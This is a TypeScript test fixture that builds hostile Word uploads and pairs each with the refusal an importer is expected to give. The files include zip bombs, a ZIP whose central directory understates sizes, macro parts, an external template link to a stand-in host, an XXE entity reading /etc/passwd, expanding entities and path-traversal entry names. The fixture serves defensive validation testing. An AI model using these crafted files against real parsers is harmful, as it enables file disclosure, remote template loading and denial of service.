import { strToU8, unzipSync, zipSync } from "fflate";
import type { WordRefusal } from "#lib/domain/word/refusals.ts";
import { getTemplate } from "#lib/domain/template/templates.ts";
import { writeWord } from "#lib/transfer/word/writing/write-word.ts";
import { wordContent } from "./answers.ts";

/** A document of ours with parts changed, taken out or put in. */
export async function tampered(change: (parts: Record<string, Uint8Array>) => void): Promise<Uint8Array> {
  const template = getTemplate("case-study-1");
  const parts = unzipSync(await writeWord(wordContent({ template, answers: { title: "Night buses" } })));
  change(parts);
  return zipSync(parts, { level: 9 });
}

const text = (parts: Record<string, Uint8Array>, name: string) => Buffer.from(parts[name]!).toString("utf8");
const related = (parts: Record<string, Uint8Array>, relationship: string) => {
  const name = "word/_rels/document.xml.rels";
  parts[name] = strToU8(text(parts, name).replace("</Relationships>", `${relationship}</Relationships>`));
};
const types = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

/** What the directory at the end of a ZIP says of sizes, made smaller than the truth. */
function lying(bytes: Uint8Array): Uint8Array {
  const zip = Buffer.from(bytes);
  for (
    let at = zip.indexOf("PK\u0001\u0002", 0, "latin1");
    at >= 0;
    at = zip.indexOf("PK\u0001\u0002", at + 4, "latin1")
  ) {
    if (zip.readUInt32LE(at + 24) > 1_000_000) zip.writeUInt32LE(1000, at + 24);
  }
  return zip;
}

const compound = (rest: string) =>
  Buffer.concat([
    Buffer.from("d0cf11e0a1b11ae1", "hex"),
    Buffer.alloc(600),
    Buffer.from(rest, "utf16le"),
    Buffer.alloc(600),
  ]);
const zeros = () => new Uint8Array(50_000_000);

/** Files that are no case study in Word, or not only that, and what is said to each. */
export const hostileFiles: Record<string, [WordRefusal, () => Promise<Uint8Array> | Uint8Array]> = {
  "no bytes at all": ["empty", () => new Uint8Array()],
  "a ZIP that was renamed": ["notWord", () => zipSync({ "holiday.txt": strToU8("sun") })],
  "a ZIP with nothing in it": ["notWord", () => zipSync({})],
  "an OpenDocument text": [
    "openDocument",
    () => zipSync({ mimetype: strToU8("application/vnd.oasis.opendocument.text"), "content.xml": strToU8("<x/>") }),
  ],
  "50 MB of zeros": ["tooMuch", () => tampered((parts) => (parts["word/media/zeros.png"] = zeros()))],
  "50 MB of zeros in its words": ["tooMuch", () => tampered((parts) => (parts["word/document.xml"] = zeros()))],
  "50 MB of zeros that say they are few": [
    "tooMuch",
    async () => lying(await tampered((parts) => (parts["word/media/zeros.png"] = zeros()))),
  ],
  "thousands of parts": [
    "tooMuch",
    () =>
      tampered((parts) => {
        for (let index = 0; index < 2000; index++) parts[`word/media/${index}.png`] = strToU8("x");
      }),
  ],
  macros: ["macros", () => tampered((parts) => (parts["word/vbaProject.bin"] = strToU8("macro")))],
  "macros by its type": [
    "macros",
    () =>
      tampered(
        (parts) =>
          (parts["[Content_Types].xml"] = strToU8(
            text(parts, "[Content_Types].xml").replace(
              "wordprocessingml.document.main+xml",
              "ms-word.document.macroEnabled.main+xml",
            ),
          )),
      ),
  ],
  "a picture from the web": [
    "outside",
    () =>
      tampered((parts) =>
        related(
          parts,
          `<Relationship Id="rIdX" Type="${types}/image" Target="http://192.0.2.1/track.png" TargetMode="External"/>`,
        ),
      ),
  ],
  "a template from the web": [
    "outside",
    () =>
      tampered((parts) =>
        related(
          parts,
          `<Relationship Id="rIdX" Type="${types}/attachedTemplate" Target="https://192.0.2.1/evil.dotm" TargetMode="External"/>`,
        ),
      ),
  ],
  "a part from the network": [
    "outside",
    () =>
      tampered((parts) =>
        related(
          parts,
          `<Relationship Id="rIdX" Type="${types}/oleObject" Target="file://server/share/x" TargetMode="External"/>`,
        ),
      ),
  ],
  "entities that grow": [
    "entities",
    () =>
      tampered(
        (parts) =>
          (parts["word/document.xml"] = strToU8(
            `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;">]>${text(parts, "word/document.xml").replace(/^<\?xml[^>]*>/, "")}`,
          )),
      ),
  ],
  "entities of files": [
    "entities",
    () =>
      tampered(
        (parts) =>
          (parts["word/styles.xml"] = strToU8(
            `<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><w:styles>&f;</w:styles>`,
          )),
      ),
  ],
  "a name that leads out of it": ["names", () => tampered((parts) => (parts["../../etc/cron.d/x"] = strToU8("x")))],
  "a name from the root": ["names", () => tampered((parts) => (parts["/etc/passwd"] = strToU8("x")))],
  "a password": ["password", () => compound("EncryptedPackage")],
  "the old format": ["oldDoc", () => compound("WordDocument")],
  "rich text": ["rtf", () => strToU8("{\\rtf1\\ansi Night buses}")],
  "a PDF": ["pdf", () => strToU8("%PDF-1.7\n1 0 obj")],
  "words without a format": ["notWord", () => strToU8("Night buses")],
  "more than 10 MB": ["tooLarge", () => new Uint8Array(10_000_001)],
  "half of it": ["damaged", async () => (await tampered(() => undefined)).slice(0, 9000)],
  "no words": ["damaged", () => tampered((parts) => delete parts["word/document.xml"])],
  "a million elements in one another": [
    "damaged",
    () =>
      tampered(
        (parts) => (parts["word/document.xml"] = strToU8(`<w:document><w:body><w:p>${"<w:ins>".repeat(1_000_000)}`)),
      ),
  ],
};
